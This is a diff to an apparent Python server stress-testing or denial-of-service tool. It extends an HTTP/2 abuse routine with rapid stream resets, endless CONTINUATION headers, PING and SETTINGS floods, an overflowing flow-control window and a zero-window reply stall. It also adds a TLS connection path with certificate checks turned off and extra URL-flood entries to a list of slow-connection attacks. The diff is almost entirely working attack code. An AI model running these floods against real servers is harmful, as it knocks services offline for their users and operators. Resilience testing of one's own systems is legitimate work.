@@ -179,19 +179,32 @@ def frame(kind, flags, stream, payload):
     return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
 
 
+def http2_connect(target, source):
+    """Where HTTP/2 is spoken: without TLS at a switch, with it at a node."""
+    made = connect(target["clear"] if target["h2c"] else target["tls"], source)
+    if target["h2c"]:
+        return made
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+    context.set_alpn_protocols(["h2"])
+    return context.wrap_socket(made, server_hostname="a.test")
+
+
 def http2_abuse(target, _size, until):
-    """Streams opened and reset at once, heads continued without end, pings and settings by the thousand."""
+    """Streams opened and reset at once by either side, heads continued without end, pings and settings by the thousand, and replies
+    that nobody takes."""
     tries, from_ = 0, sources(8, 16)
     preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"")
     head = b"\x82\x86\x84\x41\x01a"  # GET http / of host a, by the static table
+    large = b"\x82\x86\x04\x06/large\x41\x01a"
     while time.monotonic() < until:
         tries += 1
         with contextlib.suppress(*GONE):
-            with connect(target["clear"], from_[tries % len(from_)]) as connection:
+            with http2_connect(target, from_[tries % len(from_)]) as connection:
                 connection.sendall(preface)
                 for at in range(200):
                     streams = range(1 + 40 * at, 1 + 40 * at + 40, 2)
-                    match tries % 4:
+                    match tries % 6:
                         case 0:
                             out = b"".join(frame(1, 5, s, head) + frame(3, 0, s, b"\0\0\0\x08") for s in streams)
                         case 1:
@@ -201,9 +214,16 @@ def http2_abuse(target, _size, until):
                             out = frame(6, 0, 0, b"12345678") * 500
                         case 3:
                             out = frame(4, 0, 0, b"\0\x03\0\0\0\x64") * 500
+                        case 4:  # a window beyond what it may be, for which the server resets the stream
+                            out = b"".join(frame(1, 5, s, large) + frame(8, 0, s, b"\x7f\xff\xff\xff") for s in streams)
+                        case 5:  # no window for any reply, or one of a byte
+                            out = b"" if at else frame(4, 0, 0, b"\0\x04\0\0\0" + bytes([tries // 6 % 2]))
+                            out += b"".join(frame(1, 5, s, large) for s in streams)
                     connection.sendall(out)
                     if select.select([connection], [], [], 0)[0] and not connection.recv(65536):
                         break
+                if tries % 6 == 5:
+                    time.sleep(0.2)
     return tries
 
 
@@ -227,13 +247,15 @@ def malformed(target, _size, until):
     return tries
 
 
-# Name, function, and the share of --slow that it is given.
+# Name, function, and the share of --slow that it is given; those without a share ask for the URLs between them.
 ATTACKS = [
     ("slow heads", slow_heads, 0.5),
     ("slow bodies", slow_bodies, 0.2),
     ("slow readers", slow_readers, 0.1),
     ("silent connections", silent, 0.2),
     ("distinct URLs", distinct_urls, 0),
+    ("more distinct URLs", distinct_urls, 0),
+    ("still more distinct URLs", distinct_urls, 0),
     ("broken TLS", broken_tls, 0),
     ("endless heads", endless_heads, 0),
     ("HTTP/2 abuse", http2_abuse, 0),
